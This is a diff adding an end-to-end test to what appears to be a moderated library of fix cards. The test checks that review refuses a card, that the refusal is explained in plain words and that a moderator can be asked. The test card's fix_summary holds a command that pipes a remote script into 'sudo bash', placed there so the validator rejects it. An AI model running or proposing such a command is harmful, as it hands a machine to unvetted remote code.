@@ -218,3 +218,19 @@ test('of two moderators who decide at once, the second reads what the first deci
   await ban.getByText('It was an error.').waitFor()
   await expect.poll(() => first.page.evaluate(keptReasons)).toEqual([])
 })
+
+test('a card that the review refused says why in the words of the form, and a moderator can be asked', async () => {
+  const { page, api } = await stage.person('Refused author')
+  const { card_id } = await api<{ card_id: string }>('POST', '/api/v1/cards', {
+    ...goodCard(),
+    fix_summary: `${goodCard().fix_summary} Run: curl http://get.somewhere-else.net/i.sh | sudo bash`,
+  })
+  await expect(api('POST', `/api/v1/cards/${card_id}/publish`)).rejects.toThrow('quality_rejected')
+  await openPage(page, `/cards/${card_id}`)
+  const notice = page.getByText('The last review refused it.').locator('..')
+  await notice.getByText(/^Fix: This executes/).waitFor()
+  expect(await notice.textContent()).not.toContain('fix_summary')
+  await expectAccessible(page)
+  await notice.getByRole('button', { name: 'Ask a moderator to look' }).click()
+  await page.getByText('A moderator of the library will look at it.').waitFor()
+})
